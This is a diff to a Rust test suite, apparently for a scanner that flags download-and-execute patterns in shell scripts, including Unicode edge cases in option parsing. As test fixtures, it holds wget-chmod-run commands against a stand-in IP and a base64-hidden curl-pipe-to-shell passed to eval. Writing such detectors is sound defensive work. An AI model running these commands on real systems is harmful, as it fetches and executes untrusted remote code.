@@ -79,6 +79,16 @@ fn shell_values_that_flow_to_where_they_run() {
         "wget -O /tmp/b https://203.0.113.7/b\nchmod +x /tmp/b\n/tmp/b --quiet\n",
         Rule::DownloadExec,
     );
+    // A cluster of short options may end in any character, a wide one too.
+    caught(
+        "scripts/c2.sh",
+        "wget -qé -O /tmp/b https://203.0.113.7/b\nchmod +x /tmp/b\n/tmp/b --quiet\n",
+        Rule::DownloadExec,
+    );
+    quiet(
+        "scripts/c3.sh",
+        "curl -s\u{fe0f}\u{1f600} https://example.com/x\n",
+    );
     caught(
         "scripts/d.sh",
         "p=$(echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo | base64 -d)\neval \"$p\"\n",
